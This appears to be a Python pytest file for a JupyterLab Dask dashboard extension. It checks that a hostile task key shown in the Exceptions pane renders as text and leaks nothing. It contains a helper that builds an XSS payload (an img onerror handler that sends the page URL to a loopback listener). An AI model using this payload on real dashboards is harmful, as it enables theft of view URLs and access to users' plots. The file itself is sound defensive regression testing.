"""A task key written as markup, in the Exceptions plot dashdock draws, is shown as text and leaks nothing.

Any client of a shared scheduler chooses its task keys and exception texts. Dask's Exceptions
table rendered them as HTML, so a key such as ``<img src=x onerror="location.href=...">`` made the
pane navigate itself to a listener with its view URL, and that URL opened every plot of the source.
Here the attack is replayed as a user meets it, in real Chromium: a recorded cluster whose
scheduler offers its state (so dashdock draws Exceptions), either by itself or because dashdock's
watcher added its plugin to a plain scheduler added by URL (the default), a failed task with such
a key and such an exception text aimed at a loopback listener (failed before the source was
added, in the second case: Dask's page would show it, so must dashdock's), and the Exceptions
pane opened in the Lab. The pane
shows the key as text (live/text_only.py), the listener hears nothing, the frame stays
on its view URL, and that URL, replayed by another client, is refused: its page's websocket spent
it (proxy/capabilities.py).
"""

from __future__ import annotations

import json
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest
from distributed import Client, LocalCluster
from helpers import PANE, pane, pane_frame, wait_until
from hostile import Listener
from lab import OUTPUT, Lab, open_lab, start_lab, stop_lab
from playwright.sync_api import Browser, expect

from dashdock.kernel import plot_state


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    # Under a base URL, as on JupyterHub; key plots drawn by dashdock (the default, asked for here).
    server = start_lab(tmp_path_factory.mktemp("lab"), "/user/alice/", ["--DashdockApp.draw_key_plots=True"])
    yield server
    stop_lab(server)


def _sends_location(port: int, path: str) -> str:
    """Markup that, rendered as HTML, navigates the page to the listener with the page's URL."""
    return f"<img src=x onerror=\"location.href='http://127.0.0.1:{port}/{path}?'+encodeURIComponent(location.href)\">"


def _fail(message: str) -> None:
    raise ValueError(message)


def _offer_plot_state(dask_scheduler: Any) -> None:
    plot_state.offer(dask_scheduler)


def _drawn(lab: Lab, source: str) -> list[str]:
    listed: Any = lab.api("dashdock/api/sources")
    found = next((s for s in listed["sources"] if s["id"] == source), {})
    return list(found.get("drawnPlots", []))


def _status_without_credentials(url: str) -> int:
    """The status another client gets for ``url``: no cookie, no token."""
    try:
        with urllib.request.urlopen(urllib.request.Request(url), timeout=30) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return int(error.code)


@pytest.mark.parametrize("offered_by", ["scheduler", "dashdock"])
def test_a_hostile_task_key_in_the_drawn_exceptions_pane_is_text_and_leaks_no_view_url(
    browser: Browser, lab: Lab, offered_by: str
) -> None:
    listener = Listener()
    cluster = LocalCluster(
        n_workers=1,
        threads_per_worker=1,
        processes=False,
        protocol="tcp",
        host="127.0.0.1",
        dashboard_address="127.0.0.1:0",
    )
    client = Client(cluster)
    source: Any = None
    try:
        key = _sends_location(listener.port, "key")
        failing = _sends_location(listener.port, "exception")
        if offered_by == "scheduler":
            # The scheduler offers its state, so dashdock draws Exceptions from its recording.
            client.run_on_scheduler(_offer_plot_state)
        else:
            # A plain scheduler whose task failed before the user added it: dashdock's watcher
            # adds its plugin, and the drawn page shows what Dask's would.
            assert client.submit(_fail, failing, key=key).exception(timeout=60) is not None
        source = lab.api("dashdock/api/sources", "POST", {"url": cluster.dashboard_link})
        wait_until(lambda: "/individual-exceptions" in _drawn(lab, source["id"]), timeout=120)
        if offered_by == "scheduler":
            assert client.submit(_fail, failing, key=key).exception(timeout=60) is not None

        page = open_lab(browser, lab, f"hostile-key-exceptions-{offered_by}")
        args = json.dumps({"source": source["id"], "path": "/individual-exceptions", "name": "Exceptions"})
        page.evaluate(f"() => window.jupyterapp.commands.execute('dashdock:open-plot', {args})")
        exceptions = pane(page, "Exceptions")
        expect(exceptions).to_be_visible(timeout=60_000)
        expect(exceptions).to_have_attribute("data-drawn", "true", timeout=60_000)
        frame = pane_frame(page, "Exceptions")
        shown = page.frame_locator(f"{PANE} iframe[title='Exceptions'][src]").get_by_text(key, exact=True)

        # Until the table shows the key, or the key's markup ran: its frame left for the listener, or
        # the listener heard from it (it would, within the same moment, were the key rendered as HTML).
        def settled() -> bool:
            return bool(listener.requests) or "/dashdock/view/" not in frame.url or shown.count() > 0

        wait_until(settled, timeout=60)
        assert listener.requests == [], f"the page's markup ran and sent: {listener.requests}"
        view = f"{lab.url}dashdock/view/{source['id']}/"  # the source's view URL, not the listener
        assert frame.url.startswith(view), frame.url
        assert urllib.parse.urlsplit(frame.url).path.endswith("/individual-exceptions"), frame.url
        # The key and the exception's text are text in the table, not a picture.
        expect(shown).to_be_visible(timeout=60_000)
        table = page.frame_locator(f"{PANE} iframe[title='Exceptions'][src]").locator(".slick-cell")
        expect(table.filter(has_text="/exception?")).not_to_have_count(0, timeout=60_000)
        assert frame.locator("img[src='x']").count() == 0

        # The page's websocket spent its view URL: replayed by another client, it opens nothing.
        assert _status_without_credentials(frame.url) == 403

        OUTPUT.mkdir(exist_ok=True)
        exceptions.screenshot(path=str(OUTPUT / f"hostile-key-exceptions-as-text-{offered_by}.png"))
        assert listener.requests == []
        assert frame.url.startswith(view), frame.url
        page.close()
    finally:
        if source is not None:
            lab.api(f"dashdock/api/sources/{source['id']}", "DELETE")
        client.close()
        cluster.close()
        listener.close()
